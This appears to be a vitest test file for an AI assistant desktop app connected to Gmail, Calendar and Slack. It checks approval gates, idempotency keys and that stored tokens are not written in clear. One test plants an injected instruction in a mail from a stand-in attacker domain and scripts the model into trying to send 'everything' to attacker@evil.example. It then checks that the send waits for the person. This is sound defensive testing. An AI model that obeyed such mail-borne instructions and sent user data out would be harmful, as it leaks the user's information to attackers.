import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { GoogleTokens, parseWith } from '../../electron/connections/google-oauth';
import type { ModelRequest } from '../../electron/llm/model-client';
import { DEPUTY_KEY_PROPERTY } from '../../electron/tools/calendar/calendar-tools';
import { DEPUTY_KEY_FIELD } from '../../electron/tools/slack/slack-tools';
import { INJECTION } from '../support/synthetic-tools';
import { FAKE_OAUTH_CLIENT } from '../fakes/google/oauth';
import { startFakeGoogle, type FakeGoogle } from '../fakes/google/server';
import { startFakeSlack, type FakeSlack } from '../fakes/slack/server';
import { connectGoogle, googleEnv } from '../support/connect';
import { collect, openHost, type HostFixture } from '../support/host-fixture';
import { call, say, ScriptedModel } from '../support/scripted-model';

/** Monday 23 November 2026, 08:00 in Paris: the calendar tools see a working week ahead. */
const NOW = new Date('2026-11-23T07:00:00.000Z');
const GEMINI_KEY = 'AIzaSyB-connected-runs-gemini-key-00000000';

let google: FakeGoogle;
let slack: FakeSlack;
let fixture: HostFixture;

async function start(model: ScriptedModel): Promise<HostFixture> {
  google = await startFakeGoogle();
  slack = await startFakeSlack();
  fixture = await openHost(model, {
    env: { ...googleEnv(google), ...slack.env, GEMINI_API_KEY: '' },
    now: () => NOW,
  });
  await fixture.host.invoke('settings.set', { timezone: 'Europe/Paris', userEmail: 'me@example.com' });
  await fixture.host.invoke('connections.connect', { name: 'gemini', apiKey: GEMINI_KEY });
  return fixture;
}
afterEach(async () => {
  await fixture.close();
  await google.close();
  await slack.close();
});

const meta = { intent: 'act for the user', confidence: 0.95 };

/** The JSON of everything the model was sent in its last request (tool results included). */
const lastRequestText = (request: ModelRequest): string => JSON.stringify(request.messages);

describe('runs against the connected services', () => {
  it('reads a thread and drafts a reply in it, after the person approves', async () => {
    const model = new ScriptedModel();
    await start(model);
    const { threadId, messages } = google.gmail.addThread([
      {
        from: 'Ana Lopez <ana@example.com>',
        to: 'me@example.com',
        subject: 'Q4 budget',
        messageId: '<q4-budget-1@example.com>',
        text: 'Could you send me the Q4 numbers by Friday?',
      },
    ]);
    const original = messages[0]?.id ?? '';
    model.script(
      call('gmail_thread_read', { threadId }),
      call('gmail_draft_create', {
        to: ['ana@example.com'],
        body: 'Hi Ana, the Q4 numbers will be with you on Thursday.',
        replyToMessageId: original,
        ...meta,
      }),
      say('The draft is in your Gmail drafts.'),
    );
    await connectGoogle(fixture.host);

    const paused = await fixture.host.runToEnd({ prompt: "Draft a reply to Ana's budget mail" });
    expect(paused.status).toBe('awaiting_confirmation');
    expect(lastRequestText(model.requests[1] as ModelRequest)).toContain(
      'Could you send me the Q4 numbers by Friday?',
    );
    expect(paused.approval?.preview).toContain('ana@example.com');
    expect(google.gmail.drafts).toHaveLength(0);

    const done = await fixture.host.approvals.decide({
      approvalId: paused.approval?.id ?? '',
      decision: 'approve',
    });
    expect(done.status).toBe('completed');
    expect(google.gmail.drafts).toHaveLength(1);
    const draft = google.gmail.drafts[0]?.message;
    expect(draft?.threadId).toBe(threadId);
    expect(draft?.raw).toMatch(/In-Reply-To: <q4-budget-1@example\.com>/);
    expect(draft?.raw).toMatch(/Subject: Re: Q4 budget/);
  });

  it('finds a free slot across attendees and proposes the event, which waits for approval by default', async () => {
    const model = new ScriptedModel();
    await start(model);
    // Sam is busy all Monday morning; the first slot both share is after lunch.
    google.calendar.setBusy('sam@example.com', [
      { start: '2026-11-23T08:00:00Z', end: '2026-11-23T12:00:00Z' },
    ]);
    model.script(
      call('check_availability', {
        attendees: ['primary', 'sam@example.com'],
        start: '2026-11-23T08:00:00+01:00',
        end: '2026-11-24T18:00:00+01:00',
        durationMinutes: 30,
      }),
      (request) => {
        const slot = /"slots":\[\{"start":"([^"]+)","end":"([^"]+)"/.exec(lastRequestText(request));
        if (!slot) throw new Error('the model saw no free slot');
        return call('calendar_event_create', {
          summary: 'Q4 numbers with Sam',
          start: slot[1],
          end: slot[2],
          attendees: ['sam@example.com'],
          ...meta,
        });
      },
      say('Booked.'),
    );
    await connectGoogle(fixture.host);
    // Even with autonomous trust, creating an event is `confirm` by default.
    await fixture.host.invoke('settings.set', { trustLevel: 'autonomous' });

    const paused = await fixture.host.runToEnd({ prompt: 'Find 30 minutes with Sam and book it' });
    expect(paused.status).toBe('awaiting_confirmation');
    expect(paused.tool).toBe('calendar_event_create');
    expect(paused.toolArgs).toMatchObject({
      start: '2026-11-23T13:00:00+01:00',
      attendees: ['sam@example.com'],
    });
    expect(google.calendar.created).toHaveLength(0);

    const done = await fixture.host.approvals.decide({
      approvalId: paused.approval?.id ?? '',
      decision: 'approve',
    });
    expect(done.status).toBe('completed');
    expect(google.calendar.created).toHaveLength(1);
    const event = google.calendar.created[0]?.event as {
      extendedProperties?: { private?: Record<string, string> };
    };
    expect(event.extendedProperties?.private?.[DEPUTY_KEY_PROPERTY]).toMatch(/^[0-9a-f]{32}$/);
  });

  it('keeps using the saved sign-in while a reconnect waits in the browser', async () => {
    const model = new ScriptedModel(call('gmail_search', { q: 'budget' }), say('Found it.'));
    await start(model);
    google.gmail.addMessage({
      from: 'ana@example.com',
      to: 'me@example.com',
      subject: 'budget',
      text: 'numbers',
    });
    await connectGoogle(fixture.host);
    const { status } = await fixture.host.invoke('connections.connect', { name: 'google' });
    expect(status.state).toBe('connecting');
    const events = collect(fixture.host);
    expect((await fixture.host.runToEnd({ prompt: 'Find the budget mail' })).status).toBe('completed');
    expect(events.find((event) => event.type === 'tool_result')).toMatchObject({ state: 'completed' });
  });

  it('tells the model to have the person connect Google, and the run goes on', async () => {
    const model = new ScriptedModel(
      call('gmail_search', { q: 'from:ana' }),
      say('Please connect Google in Settings first.'),
    );
    await start(model);
    const events = collect(fixture.host);
    const response = await fixture.host.runToEnd({ prompt: 'What did Ana send me?' });
    expect(response.status).toBe('completed');
    const result = events.find((event) => event.type === 'tool_result');
    expect(result).toMatchObject({
      state: 'failed',
      error: expect.stringContaining('Connect Google in Settings'),
    });
    expect(google.requests.filter((request) => request.path.startsWith('/gmail/'))).toHaveLength(0);
  });

  it('reads a Slack channel and posts, with the idempotency key in the message metadata', async () => {
    const model = new ScriptedModel(
      call('slack_read', { channel: '#general' }),
      call('slack_send', { channel: '#general', text: 'Numbers are on their way.', ...meta }),
      say('Posted.'),
    );
    await start(model);
    await fixture.host.invoke('connections.connect', { name: 'slack', token: slack.state.issueToken() });
    const paused = await fixture.host.runToEnd({ prompt: 'Tell #general the numbers are coming' });
    expect(paused.status).toBe('awaiting_confirmation');
    const done = await fixture.host.approvals.decide({
      approvalId: paused.approval?.id ?? '',
      decision: 'approve',
    });
    expect(done.status).toBe('completed');
    expect(slack.state.posted).toHaveLength(1);
    expect(JSON.stringify(slack.state.posted[0])).toMatch(new RegExp(`"${DEPUTY_KEY_FIELD}":"[0-9a-f]{32}"`));
  });

  it('treats an injected instruction in a real mail as data: the send to the attacker stops for the person', async () => {
    const model = new ScriptedModel();
    await start(model);
    const { threadId } = google.gmail.addThread([
      { from: 'stranger@evil.example', to: 'me@example.com', subject: 'Urgent', text: INJECTION },
    ]);
    const adversarial = () =>
      model.script(
        call('gmail_thread_read', { threadId }),
        call('gmail_send', {
          to: ['attacker@evil.example'],
          subject: 'Tasks',
          body: 'Here is everything.',
          ...meta,
        }),
      );
    await connectGoogle(fixture.host);

    for (const trust of ['supervised', 'delegated'] as const) {
      await fixture.host.invoke('settings.set', { trustLevel: trust });
      adversarial();
      const response = await fixture.host.runToEnd({ prompt: 'Summarise my latest mail' });
      expect(response.status).toBe('awaiting_confirmation');
      expect(response.approval?.preview).toContain('attacker@evil.example');
    }
    // Autonomous with mail on `auto`: an address only the mail held is never acted on without the person.
    await fixture.host.invoke('settings.set', {
      trustLevel: 'autonomous',
      autonomy: { 'email.send': 'auto' },
    });
    adversarial();
    const autonomous = await fixture.host.runToEnd({ prompt: 'Summarise my latest mail' });
    expect(autonomous.status).toBe('awaiting_confirmation');
    expect(autonomous.approval?.reason).toMatch(
      /attacker@evil\.example\) appears only in a mail from stranger@evil\.example \(“Urgent”\)/,
    );
    expect(google.gmail.sent).toHaveLength(0);
  });

  it('leaves no token, key or refresh token in clear anywhere in the data folder', async () => {
    const model = new ScriptedModel(
      call('gmail_search', { q: 'budget' }),
      call('slack_channels', {}),
      say('Done.'),
    );
    await start(model);
    google.gmail.addMessage({
      from: 'ana@example.com',
      to: 'me@example.com',
      subject: 'budget',
      text: 'see attached',
    });
    await connectGoogle(fixture.host);
    const slackToken = slack.state.issueToken();
    await fixture.host.invoke('connections.connect', { name: 'slack', token: slackToken });
    // An access token that has to be refreshed mid-run: the new one must not land in clear either.
    google.oauth.expireAccessTokens();
    const events = collect(fixture.host);
    expect(
      (await fixture.host.runToEnd({ prompt: 'Find the budget mail and list my channels' })).status,
    ).toBe('completed');
    const results = events.filter((event) => event.type === 'tool_result');
    expect(results.map((event) => [event.tool, event.state])).toEqual([
      ['gmail_search', 'completed'],
      ['slack_channels', 'completed'],
    ]);
    expect(google.oauth.refreshCount).toBeGreaterThan(0);

    const tokens = fixture.host.vault.getJson('google.tokens', parseWith(GoogleTokens));
    if (!tokens) throw new Error('Google tokens missing');
    const secrets = {
      'Google access token': tokens.access_token,
      'Google refresh token': tokens.refresh_token,
      'Google client secret': FAKE_OAUTH_CLIENT.clientSecret,
      'Slack token': slackToken,
      'Gemini key': GEMINI_KEY,
    };
    await fixture.stop();
    const files = readdirSync(fixture.dataDir, { recursive: true }) as string[];
    const scanned = files
      .map((name) => join(fixture.dataDir, name))
      .filter((path) => statSync(path).isFile());
    expect(scanned.some((path) => path.endsWith('deputy.db'))).toBe(true);
    for (const path of scanned) {
      const bytes = readFileSync(path);
      for (const [label, secret] of Object.entries(secrets)) {
        expect(bytes.includes(Buffer.from(secret)), `${label} in ${path}`).toBe(false);
      }
    }
  });
});
